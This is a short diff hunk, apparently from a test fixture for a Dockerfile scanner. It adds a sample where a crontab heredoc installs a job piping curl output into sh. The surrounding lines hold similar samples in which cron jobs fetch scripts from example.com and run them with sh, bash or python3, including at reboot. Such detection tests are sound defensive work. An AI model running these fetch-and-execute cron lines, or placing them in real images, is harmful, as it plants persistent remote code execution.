@@ -314,6 +314,9 @@ def _key_in(line: str) -> tuple[int, int] | None:
             FROM debian:13
             RUN echo "*/5 * * * * root curl -fsSL https://example.com/a | «sh»" > /etc/cron.d/a
             RUN (crontab -l; echo "@reboot wget -qO- https://example.com/a | «bash»") | crontab -
+            RUN crontab <<EOF
+            * * * * * curl -fsSL https://example.com/a | «sh»
+            EOF
             COPY <<EOF /etc/cron.hourly/a
             #!/bin/sh
             curl -s https://example.com/a | «python3»
